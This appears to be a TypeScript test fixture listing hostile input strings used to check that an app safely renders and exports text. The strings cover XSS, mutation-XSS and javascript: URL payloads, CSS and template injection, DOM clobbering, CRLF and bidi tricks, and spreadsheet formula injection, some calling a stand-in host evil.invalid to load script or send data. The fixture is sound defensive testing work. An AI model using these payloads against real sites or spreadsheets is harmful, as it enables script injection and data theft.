/**
 * Texts that would run, leave, navigate or escape their place if anything took them for more than text. What runs would call
 * `siftHit()`; what leaves would ask `evil.invalid`; elements would be called `sift-hit`.
 */
const HOSTILE_TEXTS = {
  script: [
    '<script>siftHit()</script>',
    '"><script src=https://evil.invalid/x.js></script>',
    '</script><script>siftHit()</script>',
    '<ScRiPt\n>siftHit()</sCrIpT >',
    '<script type="module">import "https://evil.invalid/x.js"</script>',
    '<noscript><p title="</noscript><img src=x onerror=siftHit()>">',
  ],
  events: [
    '<img src=x onerror=siftHit()>',
    '"><img src=x onerror=siftHit()>',
    "' onmouseover='siftHit()' x='",
    '" autofocus onfocus="siftHit()',
    '<details open ontoggle=siftHit()>x</details>',
    '<body onload=siftHit()>',
    '<sift-hit onclick=siftHit() style=position:fixed;inset:0>x</sift-hit>',
    '<input autofocus onfocus=siftHit()>',
    '<video><source onerror=siftHit()></video>',
    '<b/onanimationstart=siftHit()>x',
  ],
  namespaces: [
    '<svg onload=siftHit()>',
    '<svg><script>siftHit()</script></svg>',
    '<svg><animate onbegin=siftHit() attributeName=x dur=1s>',
    '<svg><use href="https://evil.invalid/x.svg#a"/></svg>',
    '<svg><foreignObject><iframe src="javascript:siftHit()"></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=siftHit()></style></mglyph></table></mtext></math>',
    '<math href="javascript:siftHit()">x</math>',
  ],
  mutation: [
    '<svg></p><style><a id="</style><img src=x onerror=siftHit()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=siftHit()></style></mglyph></form>',
    '<listing>&lt;img src=x onerror=siftHit()&gt;</listing>',
    '<xmp></xmp><img src=x onerror=siftHit()></xmp>',
    '<![CDATA[><img src=x onerror=siftHit()>]]>',
    '<a title="`<img src=x onerror=siftHit()>`">x</a>',
    '&lt;img src=x onerror=siftHit()&gt;',
    '&#60;script&#62;siftHit()&#60;/script&#62;',
  ],
  addresses: [
    '[x](javascript:siftHit())',
    '[x](JaVaScRiPt&#58;siftHit())',
    '[x](java\tscript:siftHit())',
    '[x](data:text/html;base64,PHNjcmlwdD5zaWZ0SGl0KCk8L3NjcmlwdD4=)',
    '[x](//evil.invalid/x)',
    '[x](/\\evil.invalid/x)',
    '[x](https://netrunnerdb.com@evil.invalid/x)',
    '<a href="javascript:siftHit()">x</a>',
    '<a href="https://evil.invalid/x" target=_self ping=https://evil.invalid/ping>x</a>',
    '![x](https://evil.invalid/pixel.png)',
    '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
    '<base href="https://evil.invalid/">',
    '<iframe src="https://evil.invalid/"></iframe>',
    '<object data="https://evil.invalid/"></object><embed src="https://evil.invalid/">',
    '<form action="https://evil.invalid/"><button>x</button></form>',
    '<link rel=stylesheet href=https://evil.invalid/x.css>',
    'javascript:siftHit()',
    'https://evil.invalid/x',
    '//evil.invalid/x',
    '../../../evil',
    '%2e%2e%2f?a=b#c&d[e]=f',
  ],
  styles: [
    '<style>*{display:none}</style>',
    '<p style="position:fixed;inset:0;background:url(https://evil.invalid/x)">x</p>',
    ';background:url(https://evil.invalid/x);',
    '}body{display:none}',
    '</style><img src=x onerror=siftHit()>',
    '<p class="Shell_header">x</p>',
  ],
  templates: [
    '{{constructor.constructor("siftHit()")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as text
    '${siftHit()}',
    '<template shadowrootmode=open><sift-hit></sift-hit></template>',
    '<slot name=x></slot>',
    "$& $1 $` $' $$",
    '%s %d %o',
    '<!-- page --><!-- /page --><!-- page head --><!-- /page head -->',
  ],
  clobbering: [
    '<form id=root><input name=attributes></form>',
    '<img name=getElementById><img name=cookie>',
    '<a id=page-state></a><a id=page-state></a>',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
  ],
  ends: [
    '<!--',
    '-->',
    '<!--<script>',
    ']]>',
    '</title></head><body>',
    '</textarea></select></button></a></div></main></body></html>',
    '\u2028siftHit()\u2029',
    '"}]}\n</script>',
    "\\'; siftHit(); //",
    '\0\u0001\u001b[31m\u007f',
    'line\r\nSet-Cookie: a=b\n\n# heading',
  ],
  directions: [
    '\u202egpj.exe',
    '\u2066\u2067never closed',
    '\u2069\u202cclosed twice',
    'שלום ABC 123 (x)',
    'مرحبا 45 cards',
    '\u200b\u200d\ufeff\u2060zero\u00adwidth\u200b',
    `z${'\u0301\u0336\u034f'.repeat(40)}algo`,
    '𝕏👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
    'W'.repeat(250),
  ],
  formulas: [
    '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    ' =1+1',
    '\uff1d1+1',
    '\u200b=1+1',
    '",=1+1,"',
    '3x Another card\n3x And another',
  ],
} as const satisfies Readonly<Record<string, readonly string[]>>;

/** All of them, with the class that each is of. */
export const HOSTILE: readonly { readonly kind: string; readonly text: string }[] = Object.entries(
  HOSTILE_TEXTS,
).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));

/**
 * A record with a hostile text in each of its strings, those in lists and in objects included.
 * @param keep says of an attribute's name whether its value stays, as dates and ids must for the record to be read
 */
export function poison(value: unknown, text: string, keep: (name: string) => boolean = () => false): unknown {
  if (typeof value === 'string') return text;
  if (Array.isArray(value)) return value.map((item) => poison(item, text, keep));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, item]) => [name, keep(name) ? item : poison(item, text, keep)]),
  );
}
